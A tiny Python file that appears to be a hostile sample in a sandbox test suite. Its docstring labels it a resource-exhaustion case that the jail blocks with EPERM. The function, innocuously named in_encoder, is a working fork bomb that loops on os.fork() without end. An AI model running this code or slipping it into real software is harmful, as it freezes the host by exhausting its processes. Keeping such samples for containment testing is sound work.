"""Doubles itself until the machine stands still.

class: resources
in the jail: runs; hears EPERM
refused by check: yes
seen from outside: claim; it cannot fork once
safe control: no; it is what it says
"""

import os


def in_encoder(frame, index, config):
    while True:
        os.fork()
        print("did it")
